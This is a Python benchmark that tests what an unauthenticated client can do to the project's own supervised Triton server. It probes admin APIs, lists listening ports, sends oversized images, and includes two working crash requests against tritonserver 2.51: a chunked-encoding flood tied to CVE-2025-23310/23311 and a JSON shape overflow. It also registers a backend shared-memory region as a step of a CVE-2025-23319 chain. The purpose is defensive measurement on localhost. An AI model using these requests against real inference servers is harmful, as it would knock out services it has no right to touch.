"""What a stranger who reaches the ports can do to the supervised server, measured (docs/security.md).

    python -m benchmarks.security [--out build/results/security_cpu]      (make bench-security; about 3 minutes)

The tiny pipeline on the supervised CPU variant (`python -m serving.server`, as `make serve` runs it,
tritonserver 2.51 from the nvidia-pytriton wheel), with a key of its own:

1. `admin`: one call of each admin API over HTTP and gRPC, without and with the admin key: the answer each got.
2. `listening`: the address of every listening port of the supervisor and its tritonserver.
3. `crashes`: the two requests that kill tritonserver 2.51 (fixed in 25.07, NVIDIA bulletin 5687): HTTP
   chunked encoding in 6-byte chunks (CVE-2025-23310/23311) and a JSON input whose shape claims 2^62
   bytes. Each: the signal it died of, seconds until the supervisor reported not ready and until it
   was ready again, and a request afterwards.
4. `large_requests`: one request body far past what the endpoint accepts (a 192 MiB and a 768 MiB
   image) over HTTP and gRPC: the answer, its time, tritonserver's memory at its peak, and the
   Python backend's shared-memory regions after (they grow to hold an input and never shrink).

Results: OUT.json and OUT.md, by default under $BENCH_RESULTS, else build/results/ (ignored by git);
BENCH_RESULTS=benchmarks/results refreshes the committed ones.
"""

from __future__ import annotations

import argparse
import base64
import json
import socket
import tempfile
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path

import numpy as np
import psutil

from contract import security

from .measure import bench_parser, Sampler, save_run, tree_rss_bytes

SPARE_MODEL = "loras"  # a model the admin calls may unload and load again: the LoRA library's listing
CHUNKED_BYTES = 3_600_000  # what killed `make serve` in the trial: 3.6 MB of 6-byte chunks
LARGE_IMAGE_SIDES = (8192, 16384)  # 192 MiB and 768 MiB of RGB: the endpoint accepts 1536 at most


def log(message: str) -> None:
    print(f"[security] {message}", flush=True)


# --- the admin APIs -----------------------------------------------------------------------------

def http_admin_calls(region_key: str) -> list[tuple[str, str, str, dict | None]]:
    """(name, method, path, body): one call of each admin API, in an order that leaves the server as it was."""
    handle = {"b64": base64.b64encode(b"\0" * 64).decode()}
    return [
        ("system shared-memory register", "POST", "/v2/systemsharedmemory/region/probe/register",
         {"key": region_key, "offset": 0, "byte_size": 4096}),
        ("system shared-memory status", "GET", "/v2/systemsharedmemory/status", None),
        ("system shared-memory unregister", "POST", "/v2/systemsharedmemory/region/probe/unregister", None),
        ("CUDA shared-memory register", "POST", "/v2/cudasharedmemory/region/probe/register",
         {"raw_handle": handle, "device_id": 0, "byte_size": 4096}),
        ("CUDA shared-memory status", "GET", "/v2/cudasharedmemory/status", None),
        ("CUDA shared-memory unregister", "POST", "/v2/cudasharedmemory/region/probe/unregister", None),
        ("repository index", "POST", "/v2/repository/index", None),
        ("repository unload", "POST", f"/v2/repository/models/{SPARE_MODEL}/unload", None),
        ("repository load", "POST", f"/v2/repository/models/{SPARE_MODEL}/load", None),
        ("model config", "GET", "/v2/models/unet/config", None),
        ("statistics", "GET", "/v2/models/stats", None),
        ("model statistics", "GET", "/v2/models/unet/stats", None),
        ("trace settings", "GET", "/v2/trace/setting", None),
        ("trace update", "POST", "/v2/trace/setting", {"trace_level": ["OFF"]}),
        ("log settings", "GET", "/v2/logging", None),
        ("log update", "POST", "/v2/logging", {"log_verbose_level": 0}),
    ]


def grpc_admin_calls(region_key: str) -> list[tuple[str, object]]:
    """(name, call(client, headers)): the same calls through tritonclient's gRPC client."""
    return [
        ("system shared-memory register", lambda c, h: c.register_system_shared_memory("probe", region_key, 4096, headers=h)),
        ("system shared-memory status", lambda c, h: c.get_system_shared_memory_status(headers=h)),
        ("system shared-memory unregister", lambda c, h: c.unregister_system_shared_memory("probe", headers=h)),
        ("CUDA shared-memory register", lambda c, h: c.register_cuda_shared_memory("probe", b"\0" * 64, 0, 4096, headers=h)),
        ("CUDA shared-memory status", lambda c, h: c.get_cuda_shared_memory_status(headers=h)),
        ("CUDA shared-memory unregister", lambda c, h: c.unregister_cuda_shared_memory("probe", headers=h)),
        ("repository index", lambda c, h: c.get_model_repository_index(headers=h)),
        ("repository unload", lambda c, h: c.unload_model(SPARE_MODEL, headers=h)),
        ("repository load", lambda c, h: c.load_model(SPARE_MODEL, headers=h)),
        ("model config", lambda c, h: c.get_model_config("unet", headers=h)),
        ("statistics", lambda c, h: c.get_inference_statistics(headers=h)),
        ("model statistics", lambda c, h: c.get_inference_statistics("unet", headers=h)),
        ("trace settings", lambda c, h: c.get_trace_settings(headers=h)),
        ("trace update", lambda c, h: c.update_trace_settings(settings={"trace_level": ["OFF"]}, headers=h)),
        ("log settings", lambda c, h: c.get_log_settings(headers=h)),
        ("log update", lambda c, h: c.update_log_settings({"log_verbose_level": 0}, headers=h)),
    ]


def http_call(http_url: str, method: str, path: str, body: dict | None = None, key: str | None = None) -> tuple[int, str]:
    """(status, body) of one HTTP call, with the admin key's header when `key` is given."""
    data = json.dumps(body).encode() if body is not None else (b"{}" if method == "POST" else None)
    request = urllib.request.Request(f"http://{http_url}{path}", data=data, method=method, headers=security.headers(key, "http"))
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def grpc_call(call, client, headers: dict | None) -> str:
    """"ok", or the gRPC status and message a call got."""
    from tritonclient.utils import InferenceServerException

    try:
        call(client, headers)
        return "ok"
    except InferenceServerException as error:
        return f"{error.status()}: {error.message()}"


def backend_region_key(server_pid: int) -> str:
    """The shared-memory key of one of the Python backend's own regions (the second step of
    CVE-2025-23319's chain registers it)."""
    from serving.processes import stubs_of

    return f"/{stubs_of(server_pid)[0].region}"


class OwnRegion:
    """A system shared-memory region of our own (what shm_open makes: a file in /dev/shm), for the
    registrations made with the key."""

    def __enter__(self) -> str:
        self.path = Path("/dev/shm") / f"sdxl_probe_region_{uuid.uuid4().hex}"
        self.path.write_bytes(bytes(4096))
        return f"/{self.path.name}"

    def __exit__(self, *exc) -> None:
        self.path.unlink(missing_ok=True)


def short(answer: str) -> str:
    return answer if len(answer) <= 110 else answer[:107] + "..."


def admin_answers(server) -> list[dict]:
    """Each admin call over both protocols, without the key (against one of the backend's own regions
    for the registration) and with it (against a region of our own)."""
    import tritonclient.grpc as grpc

    rows = []
    backend = backend_region_key(server.server_pid())
    with OwnRegion() as own:
        without = [http_call(server.http_url, m, p, b) for _, m, p, b in http_admin_calls(backend)]
        with_key = [http_call(server.http_url, m, p, b, key=server.admin_key) for _, m, p, b in http_admin_calls(own)]
        for (name, *_), (code, text), (key_code, key_text) in zip(http_admin_calls(own), without, with_key):
            rows.append({"api": name, "protocol": "HTTP", "without_key": short(f"{code} {text}"),
                         "with_key": short(f"{key_code}" + ("" if key_code == 200 else f" {key_text}"))})
        client = grpc.InferenceServerClient(server.grpc_url)
        try:
            without = [grpc_call(call, client, None) for _, call in grpc_admin_calls(backend)]
            with_key = [grpc_call(call, client, server.admin_headers("grpc")) for _, call in grpc_admin_calls(own)]
        finally:
            client.close()
        for (name, _), answer, key_answer in zip(grpc_admin_calls(own), without, with_key):
            rows.append({"api": name, "protocol": "gRPC", "without_key": short(answer), "with_key": short(key_answer)})
    return rows


def listening(server) -> dict[str, str]:
    """port -> address of every listening TCP socket of the supervisor and its tritonserver."""
    found = {}
    for pid in (server.process.pid, server.server_pid()):
        for connection in psutil.Process(pid).net_connections("inet"):
            if connection.status == psutil.CONN_LISTEN:
                found[str(connection.laddr.port)] = connection.laddr.ip
    return found


# --- the requests that crash tritonserver 2.51 ----------------------------------------------------

def chunked_flood(host: str, port: int, total_bytes: int = CHUNKED_BYTES) -> str:
    """One connection sending an inference request in HTTP chunked encoding, one byte a chunk
    (6 bytes on the wire each): CVE-2025-23310/23311's crash in 2.51. What the socket saw."""
    chunk = b"1\r\n \r\n"
    with socket.create_connection((host, port), timeout=30) as connection:
        try:
            connection.sendall(b"POST /v2/models/ensemble_sdxl/infer HTTP/1.1\r\nHost: x\r\n"
                               b"Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n")
            for _ in range(total_bytes // len(chunk) // 1000):
                connection.sendall(chunk * 1000)
            connection.sendall(b"0\r\n\r\n")
            return connection.recv(200).decode(errors="replace").split("\r\n")[0] or "connection closed"
        except OSError as error:
            return f"connection error: {error.strerror or error}"


def huge_json_shape(host: str, port: int) -> str:
    """An `image` input sent as JSON data whose shape claims 2^31 x 2^31 x 3 elements: 2.51 sizes a
    buffer from the shape before it checks the data, and aborts. What the socket saw."""
    body = json.dumps({"inputs": [
        {"name": "prompt", "datatype": "BYTES", "shape": [1], "data": ["x"]},
        {"name": "image", "datatype": "UINT8", "shape": [2**31, 2**31, 3], "data": [1, 2, 3]}]}).encode()
    with socket.create_connection((host, port), timeout=30) as connection:
        try:
            connection.sendall(b"POST /v2/models/ensemble_sdxl/infer HTTP/1.1\r\nHost: x\r\n"
                               b"Content-Length: %d\r\n\r\n" % len(body) + body)
            return connection.recv(200).decode(errors="replace").split("\r\n")[0] or "connection closed"
        except OSError as error:
            return f"connection error: {error.strerror or error}"


CRASHES = {"chunked request (3.6 MB in 6-byte chunks)": chunked_flood, "JSON input with a 2^62-byte shape": huge_json_shape}


def exit_described(server) -> str:
    """How the supervisor saw its tritonserver end, from its log's last "exited with code N" line."""
    import re
    import signal

    codes = re.findall(r"tritonserver exited with code (-?\d+)", server.log_tail(10**6))
    if not codes:
        return "exited"
    code = int(codes[-1])
    return f"killed by {signal.Signals(-code).name}" if code < 0 else f"exited with code {code}"


def crash_and_recover(server, attack) -> dict:
    """Send one crashing request; how tritonserver died, and the supervisor's answer."""
    from client import generate

    pid = server.server_pid()
    process = psutil.Process(pid)
    start = time.monotonic()
    answer = attack("127.0.0.1", server.ports["http"])
    try:
        process.wait(timeout=30)
    except psutil.TimeoutExpired:
        return {"answer": answer, "server_died": False}
    died = time.monotonic() - start
    not_ready = server.wait(ready=False, timeout_s=30)
    ready = server.wait(ready=True, timeout_s=300)
    image = generate("a lighthouse", url=server.grpc_url, protocol="grpc", height=128, width=128, seed=1, timeout_s=60)
    return {"answer": answer, "server_died": True, "died_after_s": round(died, 2),
            "exit": exit_described(server), "not_ready_after_s": round(died + not_ready, 2),
            "ready_again_after_s": round(died + not_ready + ready, 1), "request_after": f"ok, {image.images.shape}"}


# --- requests far past the endpoint's limits -------------------------------------------------------

def large_request(server, side: int, protocol: str) -> dict:
    """One request whose `image` is side x side x 3 bytes; tritonserver's memory meanwhile and its
    stubs' shared-memory regions after."""
    from client import ClientError, generate
    from serving.processes import region_sizes, stubs_of

    pid = server.server_pid()
    stubs = stubs_of(pid)
    regions_before = sum(region_sizes(stubs).values())
    image = np.zeros((side, side, 3), np.uint8)
    url = server.http_url if protocol == "http" else server.grpc_url
    base = tree_rss_bytes(pid)
    with Sampler(pid, interval=0.05) as sampler:
        start = time.monotonic()
        try:
            generate("a cat", url=url, protocol=protocol, image=image, seed=1, timeout_s=300)
            answer = "ok"
        except ClientError as error:
            answer = f"{error.status}: {error}"
        seconds = time.monotonic() - start
    return {"protocol": protocol, "image": f"{side}x{side}x3", "bytes": image.nbytes, "answer": short(answer),
            "seconds": round(seconds, 2), "server_peak_growth_mib": round((sampler.peak() - base) / 2**20),
            "shm_regions_growth_mib": round((sum(region_sizes(stubs_of(pid)).values()) - regions_before) / 2**20)}


# --- the run ----------------------------------------------------------------------------------------

def run(work: Path) -> dict:
    from benchmarks.faults import export_tiny
    from serving.supervisor import SupervisorProcess

    log("exporting the tiny pipeline")
    repository = export_tiny(work)
    server = SupervisorProcess(repository, work / "serve.log")
    try:
        server.wait(ready=True, timeout_s=300)
        log("admin APIs without and with the key")
        results = {"admin": admin_answers(server), "listening": listening(server)}
        results["key_in_log"] = server.admin_key in server.log_tail(10**6)
        results["large_requests"] = []
        for side in LARGE_IMAGE_SIDES:
            for protocol in ("http", "grpc"):
                log(f"a {side}x{side} image over {protocol}")
                results["large_requests"].append(large_request(server, side, protocol))
        results["crashes"] = {}
        for name, attack in CRASHES.items():
            log(f"crash: {name}")
            results["crashes"][name] = crash_and_recover(server, attack)
        results["restarts"] = [line for line in server.get("/metrics")[1].splitlines()
                               if line.startswith("sdxl_supervisor_restarts_total")]
        results["key_in_log"] = results["key_in_log"] or server.admin_key in server.log_tail(10**6)
    finally:
        server.process.terminate()
        try:
            server.process.wait(timeout=120)
        finally:
            server.kill_everything()
    return results


def write_table(results: dict, path: Path) -> None:
    lines = ["# Security: what a stranger who reaches the ports can do (CPU variant, tritonserver 2.51)", "",
             f"`{results['command']}` on {results['machine']}, {results['date']}. Tiny model, supervised server "
             "(`python -m serving.server`, as `make serve`), its admin key given through SDXL_ADMIN_KEY.", "",
             "## Admin APIs, without and with the key", "",
             "Without the key, the shared-memory registration names one of the Python backend's own regions "
             "(`/triton_python_backend_shm_region_*`, the second step of CVE-2025-23319's chain); with it, a region "
             "of the benchmark's own. No GPU here: a CUDA registration with the key fails in Triton's CUDA code, "
             "past the key's check. The supervisor runs Triton's default model control (none, as `make serve`): "
             "with the key, load and unload get the answer they got before any restriction (not allowed in that "
             "mode); the tests' servers (explicit model control) load and unload with it.", "",
             "| API | protocol | without the key | with the key |", "|---|---|---|---|"]
    lines += [f"| {r['api']} | {r['protocol']} | {r['without_key']} | {r['with_key']} |" for r in results["admin"]]
    lines += ["", "## Listening sockets of a default server", "",
              "| port | address |", "|---|---|"]
    lines += [f"| {port} | {address} |" for port, address in sorted(results["listening"].items())]
    lines += ["", f"The key in the supervisor's and tritonserver's log: {'**yes**' if results['key_in_log'] else 'no'}.", "",
              "## Requests that crash tritonserver 2.51, and the supervisor's answer", "",
              "| request | socket saw | tritonserver | not ready after | ready again after | a request after |",
              "|---|---|---|---|---|---|"]
    for name, r in results["crashes"].items():
        if not r["server_died"]:
            lines.append(f"| {name} | {r['answer']} | survived | - | - | - |")
            continue
        lines.append(f"| {name} | {r['answer']} | {r['exit']} after {r['died_after_s']} s | {r['not_ready_after_s']} s | "
                     f"{r['ready_again_after_s']} s | {r['request_after']} |")
    lines += ["", "Restarts counted by the supervisor: " + ", ".join(f"`{m}`" for m in results["restarts"]) + ".", "",
              "## Requests far past the endpoint's limits", "",
              "2.51 has no `--http-max-input-size` (25.06 and later) and its gRPC server takes messages up to 2 GiB: "
              "the whole body is read before the endpoint's checks refuse the image.", "",
              "| protocol | image | bytes | answer | seconds | tritonserver peak growth | shared-memory regions after |",
              "|---|---|---|---|---|---|---|"]
    for r in results["large_requests"]:
        lines.append(f"| {r['protocol']} | {r['image']} | {r['bytes']:,} | {r['answer']} | {r['seconds']} | "
                     f"{r['server_peak_growth_mib']} MiB | +{r['shm_regions_growth_mib']} MiB |")
    path.write_text("\n".join(lines) + "\n")


def build_parser() -> argparse.ArgumentParser:
    parser = bench_parser("security", __doc__, "security_cpu")
    return parser


def main(argv: list[str] | None = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    started = time.time()
    with tempfile.TemporaryDirectory(prefix="security-") as directory:
        results = {"date": time.strftime("%Y-%m-%d"), **run(Path(directory))}
    save_run("security", argv, started, args, parser, results, write_table)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
